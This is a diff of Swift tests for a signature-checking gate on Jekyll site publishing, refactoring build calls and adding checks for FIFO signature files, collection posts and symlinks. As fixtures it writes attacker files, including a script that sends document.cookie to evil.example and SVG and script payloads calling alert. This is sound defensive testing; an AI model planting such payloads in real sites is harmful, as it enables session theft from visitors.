@@ -22,9 +22,7 @@ extension PublishingGate {
         // The attacker's script, and an SVG of their own: Jekyll publishes both.
         try c.write("assets/main.js", "fetch('https://evil.example/?' + document.cookie);\n")
         try c.write("logo.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\n")
-        let site = c.demo.dir.appendingPathComponent("site")
-        let built = try CLI.run("/usr/bin/jekyll", ["build", "-q", "--disable-disk-cache", "-s", c.content.path, "-d", site.path])
-        try #require(built.code == 0, "jekyll build: \(built.err)")
+        let site = try c.jekyllBuild()
         #expect(try String(contentsOf: site.appendingPathComponent("assets/main.js"), encoding: .utf8).contains("evil.example"))
         #expect(FileManager.default.fileExists(atPath: site.appendingPathComponent("logo.svg").path))
         #expect(!FileManager.default.fileExists(atPath: site.appendingPathComponent("_posts/notes.js").path))
@@ -33,7 +31,7 @@ extension PublishingGate {
         #expect(r.out.contains("\(c.path("assets/main.js")): invalid: ") && r.out.contains("\(c.path("logo.svg")): unsigned: no front matter"), "\(r.out)")
         #expect(!r.out.contains("notes.js") && !r.out.contains("main.js.minisig"), "\(r.out)")
         #expect(r.err == "avault: hint: sign each file without front matter beside it (avault sign --detached --site SITE FILE…), "
-                + "or leave out what Jekyll does not publish (--exclude /PATH)\n", "\(r.err)")
+                + "or leave out what Jekyll does not publish (--exclude /PATH: /_site, /node_modules, /vendor/bundle, what exclude: names)\n", "\(r.err)")
         // Globs given on the command line say what is taken; without --require-signature the
         // default globs take pages only, as before (unsigned files pass there anyway).
         #expect(try CLI.avault(gate + ["--include", "*.html"]).code == 0)
@@ -76,9 +74,7 @@ extension PublishingGate {
         try c.write("_docs/app.js", "alert('pwned')\n")
         try c.write("_redirects.d/evil.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\n")
         try c.write("_posts/photo.png", "not published: Jekyll makes documents only here\n")
-        let site = c.demo.dir.appendingPathComponent("site")
-        let built = try CLI.run("/usr/bin/jekyll", ["build", "-q", "--disable-disk-cache", "-s", c.content.path, "-d", site.path])
-        try #require(built.code == 0, "jekyll build: \(built.err)")
+        let site = try c.jekyllBuild()
         for published in ["docs/app.js", "_redirects.d/evil.svg"] {
             #expect(FileManager.default.fileExists(atPath: site.appendingPathComponent(published).path), "\(published)")
         }
@@ -120,9 +116,7 @@ extension PublishingGate {
         #expect(symlink("../lib/app.js.minisig", c.path("assets/app.js.minisig")) == 0)
         try c.write("index.md", "---\ntitle: home\n---\nhome\n", sign: true)
         #expect(symlink("index.md", c.path("home.md")) == 0) // a page: Jekyll renders what it reads
-        let site = c.demo.dir.appendingPathComponent("site")
-        let built = try CLI.run("/usr/bin/jekyll", ["build", "-q", "--disable-disk-cache", "-s", c.content.path, "-d", site.path])
-        try #require(built.code == 0, "jekyll build: \(built.err)")
+        let site = try c.jekyllBuild()
         var st = stat()
         #expect(lstat(site.appendingPathComponent("assets/app.js").path, &st) == 0 && (st.st_mode & S_IFMT) == S_IFLNK, "Jekyll copied no link")
         let r = try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring)
@@ -151,9 +145,7 @@ extension PublishingGate {
         try c.write("parts/body.html", "P-body-{{ 'r' | upcase }}\n{% include_relative .extra.html %}\n")
         #expect(try CLI.avault(["sign", "--detached", c.path("parts/body.html"), "--key", "demo-desk"] + c.demo.args).code == 0)
         try c.write(".extra.html", "<script>alert('extra')</script>\n")
-        let site = c.demo.dir.appendingPathComponent("site")
-        let built = try CLI.run("/usr/bin/jekyll", ["build", "-q", "--disable-disk-cache", "-s", c.content.path, "-d", site.path])
-        try #require(built.code == 0, "jekyll build: \(built.err)")
+        let site = try c.jekyllBuild()
         #expect(FileManager.default.fileExists(atPath: site.appendingPathComponent("docs/guide/_posts/evil.svg").path))
         #expect(try String(contentsOf: site.appendingPathComponent("about.html"), encoding: .utf8).contains("alert('extra')"))
         let r = try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring)
@@ -174,5 +166,34 @@ extension PublishingGate {
         #expect(symlink("../drafts/2024-05-03-note.md", c.path("_posts/2024-05-03-note.md")) == 0)
         let r = try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring)
         #expect(!r.out.contains("\(c.path("_posts/2024-05-03-note.md")): malformed: a symbolic link"), "\(r.out)")
+    }
+
+    /// Found by a fourth review: a FIFO named `PAGE.minisig` beside a page with front matter
+    /// was opened to be read as its signature, and the gate blocked for ever; a date-named
+    /// static file in a collection's `_posts/` could never pass (its signature, date-named too,
+    /// was taken for a post); and a link there was let through as a post's.
+    @Test(.timeLimit(.minutes(30))) func signaturesBesideFilesInCollectionsAndFIFOs() throws {
+        let c = try Corpus()
+        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
+        try c.write("index.md", "---\ntitle: home\n---\nhome\n", sign: true)
+        #expect(mkfifo(c.path("index.md.minisig"), 0o644) == 0)
+        let blocked = try CLI.run("/usr/bin/timeout", ["60", CLI.avaultPath, "verify", "--require-signature", c.content.path] + c.ring)
+        #expect(blocked.code == 1, "\(blocked.code) \(blocked.out)")
+        #expect(blocked.out.contains("\(c.path("index.md.minisig")): a FIFO, not a regular file"), "\(blocked.out)")
+        unlink(c.path("index.md.minisig"))
+
+        try c.write("_config.yml", "collections:\n  docs:\n    output: true\n")
+        try c.write("_docs/guide/_posts/2024-01-01-chart.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"/>\n")
+        for name in ["_config.yml", "_docs/guide/_posts/2024-01-01-chart.svg"] {
+            #expect(try CLI.avault(["sign", "--detached", "--site", c.content.path, c.path(name), "--key", "demo-desk"] + c.demo.args).code == 0)
+        }
+        let signed = try CLI.avault(["verify", "--require-signature", "--require-place", c.content.path] + c.ring)
+        #expect(signed.code == 1 && !signed.out.contains("chart.svg"), "\(signed.out)") // index.md names no place
+        #expect(try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring).code == 0)
+        // The same file as a link: refused as any static file's.
+        try FileManager.default.moveItem(atPath: c.path("_docs/guide/_posts/2024-01-01-chart.svg"), toPath: c.path("chart.svg"))
+        #expect(symlink("../../../chart.svg", c.path("_docs/guide/_posts/2024-01-01-chart.svg")) == 0)
+        let link = try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring)
+        #expect(link.code == 1 && link.out.contains("2024-01-01-chart.svg: malformed: a symbolic link"), "\(link.out)")
     }
 }
